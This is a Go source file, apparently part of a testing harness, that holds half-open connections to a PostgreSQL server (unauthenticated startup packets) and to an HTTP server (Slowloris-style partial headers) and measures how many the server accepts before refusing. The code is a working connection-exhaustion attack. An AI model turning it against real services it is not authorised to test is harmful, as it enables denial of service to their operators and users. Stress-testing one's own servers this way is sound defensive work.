package attack

import (
	"context"
	"encoding/binary"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// floodDatabase holds as many connections as it can to a PostgreSQL server that wait for a password, which count as sessions
// before anybody has asked whose they are.
func floodDatabase(aim Aim) []Try {
	text := "user\x00" + aim.Role + "\x00database\x00" + aim.Role + "\x00\x00"
	packet := binary.BigEndian.AppendUint32(nil, uint32(8+len(text)))
	packet = binary.BigEndian.AppendUint32(packet, 3<<16) // the protocol's version
	return flood(aim, "sessions", aim.Database, append(packet, text...))
}

// floodStore holds as many connections as it can to a server of HTTP that wait for the rest of a request's header.
func floodStore(aim Aim) []Try {
	return flood(aim, "requests", aim.Store, []byte("GET / HTTP/1.1\r\nHost: store\r\nX-Half: "))
}

// flood opens connections, says half of something on each, and opens those anew that are closed, for aim.Seconds.
func flood(aim Aim, what, address string, half []byte) []Try {
	f := &flooding{ctx: context.Background(), address: address, half: half}
	var cancel context.CancelFunc
	f.ctx, cancel = context.WithTimeout(f.ctx, time.Duration(aim.Seconds)*time.Second)
	defer cancel()
	var all sync.WaitGroup
	for range aim.Most {
		all.Go(f.hold)
	}
	all.Wait()
	last, _ := f.refused.Load().(refusal)
	return limited("hold half-open "+what, f.most.Load(), aim.Most, last.error)
}

type flooding struct {
	ctx       context.Context
	address   string
	half      []byte
	now, most atomic.Int64
	refused   atomic.Value // the last refusal
}

type refusal struct{ error }

// hold keeps one connection open, as far as it is let.
func (f *flooding) hold() {
	network, dial := "tcp", Ask
	if strings.HasPrefix(f.address, "/") {
		network = "unix"
	}
	if dial == nil {
		dial = (&net.Dialer{Timeout: patience}).DialContext
	}
	for f.ctx.Err() == nil {
		conn, err := dial(f.ctx, network, f.address)
		if err != nil {
			if f.ctx.Err() == nil {
				f.refused.Store(refusal{err})
				pauseFor(f.ctx, time.Millisecond)
			}
			continue
		}
		f.keep(conn)
	}
}

func (f *flooding) keep(conn net.Conn) {
	closing := context.AfterFunc(f.ctx, func() { _ = conn.Close() })
	defer func() { closing(); _ = conn.Close() }()
	if _, err := conn.Write(f.half); err != nil {
		return
	}
	now := f.now.Add(1)
	defer f.now.Add(-1)
	for f.ctx.Err() == nil { // at the end they are closed before they are counted
		most := f.most.Load()
		if now <= most || f.most.CompareAndSwap(most, now) {
			break
		}
	}
	for answer := make([]byte, 512); ; {
		n, err := conn.Read(answer)
		if err != nil || n > 0 && (answer[0] == 'E' || answer[0] == 'H') { // PostgreSQL's error, or an answer of HTTP
			return
		}
	}
}

func pauseFor(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
	case <-ctx.Done():
	}
}
